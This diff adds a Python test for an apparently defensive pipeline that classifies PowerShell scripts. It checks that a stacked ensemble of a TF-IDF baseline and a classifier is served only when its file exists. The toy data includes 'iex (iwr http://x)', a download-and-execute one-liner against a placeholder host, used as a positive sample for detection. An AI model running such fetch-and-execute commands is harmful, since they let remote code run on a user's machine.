@@ -60,3 +60,29 @@ def test_per_language_thresholds_follow_each_languages_scale_and_fall_back_when_
     one = M.binary_metrics(y_test, s_test, 0.5)
     assert at["balanced_accuracy"] > one["balanced_accuracy"] + 0.1 and at["n"] == 1000
     assert set(at["per_lang"]) == {"a", "b"} and at["per_lang"]["a"]["specificity"] > 0.9
+
+
+def test_predict_serves_the_ensemble_only_for_runs_that_have_one(tmp_path):
+    from pipeline.baseline import TfidfBaseline
+    from pipeline.ensemble import EnsembleScorer, with_ensemble
+    from pipeline.records import Record
+
+    class Fixed:  # a stand-in classifier: its score is fixed per text
+        threshold = 0.5
+
+        def score_records(self, records, batch_size=16):
+            return np.array([0.9 if "iex" in r.text else 0.1 for r in records])
+
+    model = Fixed()
+    assert with_ensemble(model, tmp_path) is model  # no evaluate/ensemble.json: the plain classifier
+    texts = ["iex (iwr http://x)", "Get-ChildItem C:\\", "iex $payload", "Write-Output hello"] * 5
+    y = np.array([1, 0, 1, 0] * 5)
+    (tmp_path / "evaluate").mkdir()
+    TfidfBaseline(seed=0).fit(texts, y).save(tmp_path / "evaluate" / "baseline.npz")
+    StackedEnsemble((2.0, 1.0), -0.5).save(tmp_path / "evaluate" / "ensemble.json", threshold=0.42)
+    served = with_ensemble(model, tmp_path)
+    assert isinstance(served, EnsembleScorer) and served.threshold == 0.42
+    records = [Record(id=str(i), text=t, label="benign", lang="powershell", source="s") for i, t in enumerate(texts[:4])]
+    base = TfidfBaseline.load(tmp_path / "evaluate" / "baseline.npz").predict_proba(texts[:4])
+    expected = StackedEnsemble((2.0, 1.0), -0.5).predict(model.score_records(records), base)
+    assert np.allclose(served.score_records(records), expected)
